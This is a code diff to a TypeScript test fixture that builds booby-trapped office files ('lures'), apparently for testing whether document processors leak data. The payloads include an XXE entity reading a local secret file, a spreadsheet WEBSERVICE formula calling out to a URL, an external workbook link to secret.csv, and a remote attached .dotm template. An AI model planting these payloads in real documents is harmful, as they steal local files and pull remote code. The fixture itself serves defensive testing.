@@ -1,3 +1,4 @@
+import { type Link, main, type OfficePart, ooxml, relationships } from '../../fixtures/ooxml.ts'
 import { zipped } from '../../fixtures/zip.ts'
 import type { Lure, Trap } from './lure.ts'
 
@@ -15,24 +16,14 @@ const spaces = Object.entries({
   .map(([prefix, name]) => `xmlns:${prefix}="${name}"`)
   .join(' ')
 
-const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
-const packages = 'http://schemas.openxmlformats.org/package/2006'
-const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-const relations = (entries: [id: string, type: string, target: string, outside?: boolean][]) =>
-  `${head}<Relationships xmlns="${packages}/relationships">${entries
-    .map(
-      ([id, type, target, outside]) =>
-        `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"${outside ? ' TargetMode="External"' : ''}/>`,
-    )
-    .join('')}</Relationships>`
-
 /** Makes an OOXML text document around a body. */
-const docx = (body: string, outside: Parameters<typeof relations>[0], more: Record<string, string> = {}) =>
-  zipped({
-    '[Content_Types].xml': `${head}<Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`,
-    '_rels/.rels': relations([['r1', 'officeDocument', 'word/document.xml']]),
-    'word/document.xml': `${head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body><w:p><w:r><w:t>text</w:t></w:r></w:p>${body}</w:body></w:document>`,
-    'word/_rels/document.xml.rels': relations(outside),
+const docx = (body: string, links: readonly Link[], more: Readonly<Record<string, OfficePart>> = {}) =>
+  ooxml({
+    'word/document.xml': {
+      type: 'wordprocessingml.document.main',
+      content: `<w:document xmlns:w="${main('wordprocessingml')}" xmlns:r="${relationships}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body><w:p><w:r><w:t>text</w:t></w:r></w:p>${body}</w:body></w:document>`,
+      links,
+    },
     ...more,
   })
 
@@ -69,17 +60,24 @@ End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></o
       'content.xml': `<?xml version="1.0"?><!DOCTYPE office:document-content [<!ENTITY x SYSTEM "${file('secret.txt')}">]><office:document-content ${spaces} office:version="1.2"><office:body>${body}</office:body></office:document-content>`,
       'META-INF/manifest.xml': manifest(kind),
     })
-  const workbook = await zipped({
-    '[Content_Types].xml': `${head}<Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>`,
-    '_rels/.rels': relations([['r1', 'officeDocument', 'xl/workbook.xml']]),
-    'xl/workbook.xml': `${head}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${office}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences><calcPr fullCalcOnLoad="1"/></workbook>`,
-    'xl/_rels/workbook.xml.rels': relations([
-      ['r1', 'worksheet', 'worksheets/sheet1.xml'],
-      ['r2', 'externalLink', 'externalLinks/externalLink1.xml'],
-    ]),
-    'xl/worksheets/sheet1.xml': `${head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("${url}/xlsx")</f><v>0</v></c><c r="B1"><f>[1]secret!A1</f><v>0</v></c><c r="C1"><v>1</v></c></row></sheetData></worksheet>`,
-    'xl/externalLinks/externalLink1.xml': `${head}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="${office}" r:id="r1"><sheetNames><sheetName val="secret"/></sheetNames></externalBook></externalLink>`,
-    'xl/externalLinks/_rels/externalLink1.xml.rels': relations([['r1', 'externalLinkPath', file('secret.csv'), true]]),
+  const workbook = await ooxml({
+    'xl/workbook.xml': {
+      type: 'spreadsheetml.sheet.main',
+      content: `<workbook xmlns="${main('spreadsheetml')}" xmlns:r="${relationships}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences><calcPr fullCalcOnLoad="1"/></workbook>`,
+      links: [
+        ['r1', 'worksheet', 'worksheets/sheet1.xml'],
+        ['r2', 'externalLink', 'externalLinks/externalLink1.xml'],
+      ],
+    },
+    'xl/worksheets/sheet1.xml': {
+      type: 'spreadsheetml.worksheet',
+      content: `<worksheet xmlns="${main('spreadsheetml')}"><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("${url}/xlsx")</f><v>0</v></c><c r="B1"><f>[1]secret!A1</f><v>0</v></c><c r="C1"><v>1</v></c></row></sheetData></worksheet>`,
+    },
+    'xl/externalLinks/externalLink1.xml': {
+      type: 'spreadsheetml.externalLink',
+      content: `<externalLink xmlns="${main('spreadsheetml')}"><externalBook xmlns:r="${relationships}" r:id="r1"><sheetNames><sheetName val="secret"/></sheetNames></externalBook></externalLink>`,
+      links: [['r1', 'externalLinkPath', file('secret.csv'), true]],
+    },
   })
   const lures: Lure[] = [
     { what: 'a flat text with links', name: 'a.fodt', content: flat('text', linked) },
@@ -130,8 +128,11 @@ End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></o
       what: 'a template from elsewhere',
       name: 't.docx',
       content: await docx('', [['r1', 'settings', 'settings.xml']], {
-        'word/settings.xml': `${head}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="r1" xmlns:r="${office}"/></w:settings>`,
-        'word/_rels/settings.xml.rels': relations([['r1', 'attachedTemplate', `${url}/template.dotm`, true]]),
+        'word/settings.xml': {
+          type: 'wordprocessingml.settings',
+          content: `<w:settings xmlns:w="${main('wordprocessingml')}"><w:attachedTemplate r:id="r1" xmlns:r="${relationships}"/></w:settings>`,
+          links: [['r1', 'attachedTemplate', `${url}/template.dotm`, true]],
+        },
       }),
     },
     {
